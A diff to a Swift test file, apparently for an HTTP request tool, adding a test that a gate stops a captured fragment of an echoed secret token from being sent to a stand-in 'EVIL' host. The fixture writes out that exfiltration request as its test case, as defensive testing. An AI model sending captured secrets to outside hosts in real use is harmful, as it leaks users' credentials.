@@ -144,6 +144,27 @@ import Testing
         #expect(away.failures.joined().contains("the captured t from \(stranger.good.host)"), "\(away.failures)")
     }
 
+    @Test(arguments: ["seen (.{5})", "seen .{3}(.*)", "seen S3CRET(.)"])
+    func `a piece of a secret that a server repeats is one`(_ pattern: String) async throws {
+        let stranger = try Stranger { request in .ok("seen \(request.headers["x"] ?? "") and plain") }
+        defer { stranger.remove() }
+        try stranger.write(
+            """
+            {"version":1,"name":"c","environments":[{"name":"e","host":"GOOD",\(Stranger.token)}],"items":[
+              {"request":"echo","path":"/echo","headers":[{"name":"X","value":"{{token}}"}],
+               "capture":{"piece":{"regex":"\(pattern)"},"rest":{"regex":"and (plain)"}}},
+              {"request":"away","path":"EVIL/{{piece}}"},{"request":"free","path":"EVIL/{{rest}}"}]}
+            """)
+        let pattern = try #require(GrantPattern("TOK=" + stranger.good.host))
+        stranger.gate = OmbiWorkspace.Gate(store: nil, patterns: [pattern])
+        let session = stranger.session()
+        let away = try await stranger.send("away", session)
+        #expect(!away.passed && stranger.evil.requests.isEmpty, "\(away.failures)")
+        #expect(away.failures.joined().contains("the captured piece from \(stranger.good.host)"), "\(away.failures)")
+        #expect(try await stranger.send("free", session).passed)
+        #expect(stranger.evil.requests.map(\.target) == ["/plain"])
+    }
+
     @Test func `cookies do not leave by a way that is new`() async throws {
         let stranger = try Stranger { _ in .ok("{}", headers: [("Set-Cookie", "sid=\(Stranger.secret)")]) }
         defer { stranger.remove() }
